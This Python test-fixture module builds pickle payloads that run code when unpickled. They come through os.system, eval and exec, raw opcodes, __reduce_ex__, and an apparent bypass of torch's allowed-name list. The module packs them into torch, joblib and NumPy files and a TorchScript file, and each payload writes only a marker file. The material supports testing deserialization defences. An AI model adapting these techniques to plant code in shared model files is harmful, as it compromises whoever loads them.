"""Files that run code where something unpickles them: each writes a marker file, and so tells that it ran.

The tests beside it load this file by its path, and first show that each payload does fire where it may.
"""

import io
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch

_PLACEHOLDER = "the payload's place"


def text(value: str) -> bytes:
    """Opcodes that push text."""
    content = value.encode()
    return b"X" + struct.pack("<I", len(content)) + content


def name(module: str, attribute: str) -> bytes:
    """Opcodes that push what a module holds under a name."""
    return f"c{module}\n{attribute}\n".encode()


def call(function: bytes, *args: bytes) -> bytes:
    """Opcodes that push the result of a call."""
    return function + several(*args) + b"R"


def several(*values: bytes) -> bytes:
    """Opcodes that push a tuple."""
    return b"(" + b"".join(values) + b"t"


def command(marker: Path) -> bytes:
    """A shell's line that writes the marker."""
    return text(f"echo ran > '{marker}'")


def code(marker: Path) -> bytes:
    """A Python expression that writes the marker."""
    return text(f"open({str(marker)!r}, 'w').close()")


def _rebuilt(function: bytes, kind: bytes, *args: bytes) -> bytes:
    """A call of any function through one that torch allows."""
    return call(name("torch._tensor", "_rebuild_from_type_v2"), function, kind, several(*args), b"N")


def _getattr(value: bytes, attribute: str) -> bytes:
    return call(name("builtins", "getattr"), value, text(attribute))


def _eval_by_attributes(marker: Path) -> bytes:
    """`eval`, reached by attributes of what torch and mmengine allow, and called through what torch allows."""
    names = _getattr(name("torch._utils", "_rebuild_parameter"), "__globals__")
    builtins = _rebuilt(_getattr(names, "get"), _getattr(names, "__class__"), text("__builtins__"))
    function = _rebuilt(_getattr(builtins, "get"), _getattr(name("_codecs", "encode"), "__class__"), text("eval"))
    nothing = _getattr(b"N", "__class__")
    return _rebuilt(function, nothing, code(marker))


def _state_of_a_partial(marker: Path) -> bytes:
    """A call whose function and arguments come as the state of an object (BUILD)."""
    partial = call(name("functools", "partial"), name("builtins", "print"))
    state = several(name("builtins", "exec"), several(code(marker)), b"}", b"}")
    return call(partial + state + b"b")


class _Reduced:
    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce_ex__(self, _protocol: int) -> tuple:
        return exec, (f"open({str(self._marker)!r}, 'w').close()",)


def _dumped(marker: Path, protocol: int) -> bytes:
    """What `pickle` itself makes of such an object, without the ends of the stream."""
    stream = pickle.dumps(_Reduced(marker), protocol)
    return stream[2:-1] if protocol < 4 else stream[11:-1]  # PROTO, and from 4 on FRAME; STOP


# Opcodes that push one value and fire on the way, by what they make use of.
PICKLES: dict[str, Callable[[Path], bytes]] = {
    "os.system": lambda marker: call(name("os", "system"), command(marker)),
    "eval": lambda marker: call(name("builtins", "eval"), code(marker)),
    "exec": lambda marker: call(name("builtins", "exec"), code(marker)),
    "python-2-names": lambda marker: call(name("__builtin__", "eval"), code(marker)),
    "run_code": lambda marker: call(name("runpy", "_run_code"), code(marker), b"}"),
    "getattr-of-an-import": lambda marker: call(
        _getattr(call(name("builtins", "__import__"), text("os")), "system"), command(marker)
    ),
    "attributes-of-allowed-names": _eval_by_attributes,
    "rebuild_from_type": lambda marker: _rebuilt(name("builtins", "eval"), _getattr(b"N", "__class__"), code(marker)),
    "STACK_GLOBAL": lambda marker: call(text("builtins") + text("exec") + b"\x93", code(marker)),
    "INST": lambda marker: b"(" + code(marker) + b"ibuiltins\nexec\n",
    "OBJ": lambda marker: b"(" + name("builtins", "exec") + code(marker) + b"o",
    "BUILD": _state_of_a_partial,
    "reduce_ex": lambda marker: _dumped(marker, 2),
    "reduce_ex-4": lambda marker: _dumped(marker, 4),
    "popped": lambda marker: call(name("builtins", "exec"), code(marker)) + b"0" + text("nothing to see"),
    "nested": lambda marker: (
        b"]" + several(b"}" + text("a") + call(name("builtins", "exec"), code(marker)) + b"s") + b"a"
    ),
}


def plain_pickle(expression: bytes, protocol: int = 2) -> bytes:
    """A whole pickle of an expression."""
    return b"\x80" + bytes([protocol]) + expression + b"."


def torch_zip(content: Any, expression: bytes) -> bytes:
    """A file of `torch.save` that holds the content, in which `PLACE` is what the expression makes."""
    file, result = io.BytesIO(), io.BytesIO()
    torch.save(content, file)
    with zipfile.ZipFile(file) as source, zipfile.ZipFile(result, "w") as target:
        for entry in source.namelist():
            part = source.read(entry)
            target.writestr(entry, _with(part, expression) if entry.endswith("/data.pkl") else part)
    return result.getvalue()


def torch_legacy(content: Any, expression: bytes) -> bytes:
    """The same, as PyTorch before 1.6 wrote it."""
    file = io.BytesIO()
    torch.save(content, file, _use_new_zipfile_serialization=False)
    return _with(file.getvalue(), expression)


def torch_tar(_content: Any, expression: bytes) -> bytes:
    """The format of the first releases of PyTorch, a tar file of pickles."""
    sys_info = {"protocol_version": 1000, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    parts = {
        "sys_info": pickle.dumps(sys_info, 2),
        "pickle": plain_pickle(expression),
        "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),
        "tensors": pickle.dumps(0, 2),
    }
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for entry, part in parts.items():
            info = tarfile.TarInfo(entry)
            info.size = len(part)
            archive.addfile(info, io.BytesIO(part))
    return file.getvalue()


def npy_of_objects(_content: Any, expression: bytes) -> bytes:
    """A `.npy` file whose values are a pickle."""
    file = io.BytesIO()
    np.lib.format.write_array_header_1_0(file, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    return file.getvalue() + plain_pickle(expression)


def npz_of_objects(content: Any, expression: bytes) -> bytes:
    """A `.npz` file with such an array under the names that records have."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for entry in ("codebook", "facts", "labels"):
            archive.writestr(f"{entry}.npy", npy_of_objects(content, expression))
    return file.getvalue()


# How a payload comes as a file: content and expression to bytes.
CONTAINERS: dict[str, Callable[[Any, bytes], bytes]] = {
    "zip": torch_zip,
    "legacy": torch_legacy,
    "tar": torch_tar,
    "pickle": lambda _content, expression: plain_pickle(expression),
    "pickle-4": lambda _content, expression: plain_pickle(expression, 4),
    "joblib": lambda _content, expression: zlib.compress(plain_pickle(expression)),
    "npy": npy_of_objects,
    "npz": npz_of_objects,
}
PLACE = _PLACEHOLDER


def torch_script(marker: Path) -> bytes:
    """A TorchScript file that makes the marker when `torch.jit.load` restores it."""
    file = io.BytesIO()
    torch.jit.save(torch.jit.script(_Scripted(str(marker))), file)
    return file.getvalue()


class _Scripted(torch.nn.Module):
    marker: str

    def __init__(self, marker: str) -> None:
        super().__init__()
        self.marker = marker

    def forward(self) -> int:
        return 0

    @torch.jit.export
    def __getstate__(self) -> str:
        return self.marker

    @torch.jit.export
    def __setstate__(self, state: str) -> None:
        self.training = False
        made = torch.from_file(state, shared=True, size=1, dtype=torch.uint8)
        self.marker = state + str(made.numel())  # a call without a use is left out


def _with(stream: bytes, expression: bytes) -> bytes:
    place = text(_PLACEHOLDER)
    if stream.count(place) != 1:
        raise ValueError(f"the content has {stream.count(place)} times PLACE, expected once")
    return stream.replace(place, expression)


POSTSCRIPT = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 8 8\nshowpage\n%%EOF\n"
"""What Pillow hands to Ghostscript."""
